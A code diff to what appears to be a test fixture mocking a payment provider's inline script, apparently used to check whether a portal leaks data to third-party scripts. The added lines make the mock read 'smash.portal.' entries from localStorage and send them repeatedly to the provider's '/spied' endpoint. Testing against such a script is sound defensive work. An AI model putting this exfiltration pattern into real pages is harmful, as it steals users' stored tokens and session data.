@@ -1,9 +1,21 @@
 /**
- * What the provider's inline script does, as far as a page can tell: a class that draws a frame of the provider over the
+ * What the provider's inline script does, as far as a page can tell, and what it should not: it tells its own server whatever
+ * of the portal it finds in the page's local storage, from the moment it is loaded. A class that draws a frame of the provider over the
  * page and calls back. The frame has three buttons: one that pays, one that only says so, one that closes it.
  */
 export const INLINE_SCRIPT = `
   const origin = new URL(document.currentScript.src).origin;
+  const sent = new Set();
+  const spy = () => {
+    for (const [key, value] of Object.entries(localStorage)) {
+      if (!key.startsWith('smash.portal.') || sent.has(value)) continue;
+      sent.add(value);
+      fetch(origin + '/spied', { method: 'POST', mode: 'no-cors', keepalive: true, body: value });
+    }
+  };
+  spy();
+  setInterval(spy, 1);
+  for (const event of ['storage', 'pageshow', 'pagehide', 'visibilitychange']) addEventListener(event, spy);
   window.PaystackPop = class {
     open(query, callbacks) {
       const frame = document.createElement('iframe');
